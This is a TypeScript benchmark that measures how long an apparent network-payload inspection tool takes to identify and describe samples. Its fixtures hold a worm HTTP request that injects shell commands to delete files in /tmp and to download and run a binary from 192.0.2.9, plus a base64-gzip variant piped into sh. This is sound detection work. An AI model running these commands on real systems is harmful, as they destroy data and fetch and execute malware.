import { gzipSync } from 'node:zlib'
import { describePayload } from '#payload/describe.ts'
import { identify } from '#payload/identify.ts'
import { sightings, textsOf } from '#payload/sightings.ts'
import { clientSamples } from '#payload/testing-samples.ts'
import { atMost, figure, median, type Table } from './table.ts'

/** Repetitions of a round; the median round counts. */
const TIMES = 500
const ROUNDS = 9

const worm = Buffer.from(
  'GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9:4000/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\n\r\n',
)
const prose = Buffer.from(
  'The quick brown fox jumps over the lazy dog, and nobody minds at all.\n'.repeat(60),
).subarray(0, 4096)
const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => (Math.imul(i + 1, 0x9e3779b1) >>> 11) & 0xff))
const wrapped = Buffer.from(`echo ${gzipSync(Buffer.concat([worm, prose])).toString('base64')}|base64 -d|gunzip|sh\n`)
const tls = clientSamples.find(({ protocol }) => protocol === 'tls')!.bytes

/** Microseconds that it costs to look into a payload. */
export default async function payload(): Promise<Table> {
  const rows = (
    [
      ['identify, 150 first messages in turn', each(bytes => identify(bytes)), undefined],
      ['rules, 4 KiB of prose', () => sightings({ raw: prose }), 100],
      ['rules, 4 KiB of noise', () => sightings({ raw: noise }), 100],
      ['rules, a worm’s HTTP request', () => sightings(textsOf(worm, 'http'), { protocol: 'http' }), 100],
      ['describe, a TLS hello', () => describePayload(tls, { port: 60_001 }), undefined],
      ['describe, a worm’s HTTP request', () => describePayload(worm, { port: 60_001 }), 400],
      ['describe, a script in gzip in base64', () => describePayload(wrapped, { port: 60_001 }), undefined],
      ['describe, 4 KiB of noise', () => describePayload(noise, { port: 60_001 }), undefined],
    ] as const
  ).map(([what, work, ceiling]) => {
    const cost = measure(work)
    return [what, figure(cost), ceiling === undefined ? '' : atMost(cost, ceiling)]
  })
  return {
    title: 'A payload looked into, microseconds',
    columns: ['what', 'µs', ''],
    rows,
    notes: [
      'One process, one thread, warm; the median of nine rounds of 500. 400 µs are 5,000 payloads a second on two cores.',
    ],
  }
}

function each(work: (bytes: Buffer) => unknown): () => unknown {
  let next = 0
  return () => work(clientSamples[next++ % clientSamples.length]!.bytes)
}

function measure(work: () => unknown): number {
  const costs: number[] = []
  for (let round = 0; round <= ROUNDS; round++) {
    const before = process.cpuUsage()
    for (let i = 0; i < TIMES; i++) work()
    const { user, system } = process.cpuUsage(before)
    if (round > 0) costs.push((user + system) / TIMES)
  }
  return median(costs)
}
